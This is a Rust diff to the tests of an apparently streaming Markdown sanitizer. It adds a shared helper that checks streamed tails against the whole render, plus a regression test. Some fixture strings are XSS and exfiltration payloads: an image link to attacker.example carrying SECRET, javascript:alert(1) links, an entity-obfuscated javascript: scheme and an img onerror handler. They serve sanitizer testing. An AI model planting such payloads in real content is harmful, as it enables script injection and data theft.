@@ -768,6 +768,51 @@ mod tests {
         ))
     }
 
+    /// How a test asks for the tail while it streams a document.
+    #[derive(Clone, Copy)]
+    enum Asks {
+        /// The tail `push_bytes` gives, at every push.
+        EveryPush,
+        /// `push_bytes_committed` at every push, and `tail()` twice at every `n`th.
+        TwiceEvery(usize),
+    }
+
+    /// Streams `doc` in `size`-byte chunks, the shortcuts compared but not the budget (tested
+    /// on its own), and checks every tail asked for against the tail rendered whole. Returns
+    /// how many tails it compared.
+    fn stream_matches_whole(sanitizer: &Sanitizer, doc: &str, size: usize, asks: Asks) -> usize {
+        let mut stream = sanitizer.stream();
+        stream.tail_cache().unbounded = true;
+        let mut checked = 0;
+        for (i, piece) in doc.as_bytes().chunks(size).enumerate() {
+            let tails = match asks {
+                Asks::EveryPush => vec![stream.push_bytes(piece).unwrap().tail],
+                Asks::TwiceEvery(every) => {
+                    stream.push_bytes_committed(piece).unwrap();
+                    match i % every {
+                        0 => vec![stream.tail(), stream.tail()],
+                        _ => Vec::new(),
+                    }
+                }
+            };
+            let whole = match tails.is_empty() {
+                true => continue,
+                false => stream.whole_tail(),
+            };
+            for (ask, tail) in tails.iter().enumerate() {
+                if let Some(diff) = differs(tail, &whole) {
+                    panic!(
+                        "{:?} in {size}-byte chunks, at {}, ask {ask}: {diff}",
+                        stream.input(),
+                        stream.input().len()
+                    );
+                }
+                checked += 1;
+            }
+        }
+        checked
+    }
+
     /// The tail that keeps a stable part is the tail rendered whole, at every push, for every
     /// document, chunk size and line ending.
     #[test]
@@ -785,20 +830,7 @@ mod tests {
                 for ending in ["\n", "\r\n"] {
                     let doc = doc.replace('\n', ending);
                     for &chunk in chunks {
-                        let mut stream = sanitizer.stream();
-                        // The shortcuts are compared, not the budget (tested on its own).
-                        stream.tail_cache().unbounded = true;
-                        for piece in doc.as_bytes().chunks(chunk) {
-                            let tail = stream.push_bytes(piece).unwrap().tail;
-                            if let Some(diff) = differs(&tail, &stream.whole_tail()) {
-                                panic!(
-                                    "{:?} in {chunk}-byte chunks, at {}: {diff}",
-                                    stream.input(),
-                                    stream.input().len()
-                                );
-                            }
-                            checked += 1;
-                        }
+                        checked += stream_matches_whole(&sanitizer, &doc, chunk, Asks::EveryPush);
                     }
                 }
             }
@@ -1147,8 +1179,9 @@ mod tests {
 
     /// A line that starts as a definition (`[r]: `) continuing a paragraph, which healing
     /// hides while it is the input's last line (a destination may be arriving), in every
-    /// block that holds a paragraph, after blocks that stay in the tail region or not, streamed in chunks of 1 to 9 bytes with the tail asked
-    /// for twice at every push, every second or every third: each is the tail rendered whole. The stable part's cut moved
+    /// block that holds a paragraph, after blocks that stay in the tail region or not,
+    /// streamed in chunks of 1 to 9 bytes with the tail asked for twice at every push, every
+    /// second or every third: each is the tail rendered whole. The stable part's cut moved
     /// onto such a line on the second ask, and showed what healing hides.
     #[test]
     fn definition_like_lines_keep_the_whole_tail() {
@@ -1172,21 +1205,8 @@ mod tests {
                     "[R]: https://docs.example.com/r\n{before}{block}[r][r]~~del~~ {pad}indented\r\n{line} more\n"
                 );
                 for (size, every) in (1..=9).flat_map(|size| (1..=3).map(move |e| (size, e))) {
-                    let mut stream = sanitizer.stream();
-                    stream.tail_cache().unbounded = true;
-                    for (i, piece) in doc.as_bytes().chunks(size).enumerate() {
-                        stream.push_bytes_committed(piece).unwrap();
-                        if i % every != 0 {
-                            continue;
-                        }
-                        let whole = stream.whole_tail();
-                        for ask in 0..2 {
-                            if let Some(diff) = differs(&stream.tail(), &whole) {
-                                panic!("{:?}, ask {ask}: {diff}", stream.input());
-                            }
-                            checked += 1;
-                        }
-                    }
+                    checked +=
+                        stream_matches_whole(&sanitizer, &doc, size, Asks::TwiceEvery(every));
                 }
             }
         }
@@ -1194,10 +1214,10 @@ mod tests {
     }
 
     /// Blocks after a raw HTML group left open (`<div>`, `<details>`), each kind followed by
-    /// definitions or not, then a paragraph, streamed in chunks of 1 to 9, 16, 32 and 64 bytes on both line
-    /// endings: every tail is the tail rendered whole. When the stable part rolled on past a
-    /// block, the last block was written after a line feed that the block had already
-    /// written (`</p>\n\n<p>`).
+    /// definitions or not, then a paragraph, streamed in chunks of 1 to 9, 16, 32 and 64
+    /// bytes on both line endings: every tail is the tail rendered whole. When the stable part
+    /// rolled on past a block, the last block was written after a line feed that the block
+    /// had already written (`</p>\n\n<p>`).
     #[test]
     fn blocks_after_an_open_group_keep_the_whole_tail() {
         let sanitizer = Sanitizer::new(crate::Policy::default()).unwrap();
@@ -1231,15 +1251,31 @@ mod tests {
             for ending in ["\n", "\r\n"] {
                 let doc = format!("{group}{block}{gap}last words here\n").replace('\n', ending);
                 for size in (1..=9).chain([16, 32, 64]) {
-                    let mut stream = sanitizer.stream();
-                    stream.tail_cache().unbounded = true;
-                    for piece in doc.as_bytes().chunks(size) {
-                        let tail = stream.push_bytes(piece).unwrap().tail;
-                        if let Some(diff) = differs(&tail, &stream.whole_tail()) {
-                            panic!("{:?} in {size}-byte chunks: {diff}", stream.input());
-                        }
-                        checked += 1;
-                    }
+                    checked += stream_matches_whole(&sanitizer, &doc, size, Asks::EveryPush);
+                }
+            }
+        }
+        println!("{checked} tails compared");
+    }
+
+    /// The input the stream property test shrank to when a block rolled into the stable part
+    /// after a `<div>` left open was followed by a second line feed (`Stable::roll`), kept in
+    /// `tests/stream.proptest-regressions`: named here, streamed in chunks of 1 to 64 bytes
+    /// on both line endings with every way of asking, each tail is the tail rendered whole.
+    #[test]
+    fn the_open_group_regression_keeps_the_whole_tail() {
+        let sanitizer = Sanitizer::new(crate::Policy::default()).unwrap();
+        let doc = "<div>\n[^1][x][r]![y][r]   lazy\n![i](https://attacker.example/p.png?d=SECRET) \
+            [r]more words```\nhttps://docs.example.com/bare &amp; &#106;avascript: [r]<details>\n\
+            <summary>s</summary>\n\n~~del~~ [l](javascript:alert(1)) \u{1F600}| a | b |\n\
+            |---|---|\n| 1 | 2 |\n\r\n[R]: https://docs.example.com/r\n[^2]: second [^1]\n\n\
+            lazy continuation\npara\n---\n</details>\n\n- item\n\n- loose\n   lazy\n`code` ";
+        let mut checked = 0;
+        for ending in ["\n", "\r\n"] {
+            let doc = doc.replace("\r\n", "\n").replace('\n', ending);
+            for size in 1..=64 {
+                for asks in [Asks::EveryPush, Asks::TwiceEvery(1), Asks::TwiceEvery(3)] {
+                    checked += stream_matches_whole(&sanitizer, &doc, size, asks);
                 }
             }
         }
@@ -1270,21 +1306,21 @@ mod tests {
             ")",
             "<img src=x onerror=alert(1)></a>\">\n<!-- c",
             " s\n<!-- c",
+            // A title closed, then what makes it no destination (`![](u "t"x` is text), in
+            // the chunk that closes it or after it.
+            " \"t\"x",
+            " 't'x",
+            " (t)x",
+            " \"t\" x",
+            " \"t\"\"",
+            " \"t\"<b>",
         ];
         let mut checked = 0;
         for sanitizer in &sanitizers {
             for (open, after) in opens.iter().flat_map(|o| afters.map(|a| (o, a))) {
                 let doc = format!("{open}https://docs.example.com/p{after} more words\n");
                 for size in 1..=6 {
-                    let mut stream = sanitizer.stream();
-                    stream.tail_cache().unbounded = true;
-                    for piece in doc.as_bytes().chunks(size) {
-                        let tail = stream.push_bytes(piece).unwrap().tail;
-                        if let Some(diff) = differs(&tail, &stream.whole_tail()) {
-                            panic!("{:?} in {size}-byte chunks: {diff}", stream.input());
-                        }
-                        checked += 1;
-                    }
+                    checked += stream_matches_whole(sanitizer, &doc, size, Asks::EveryPush);
                 }
             }
         }
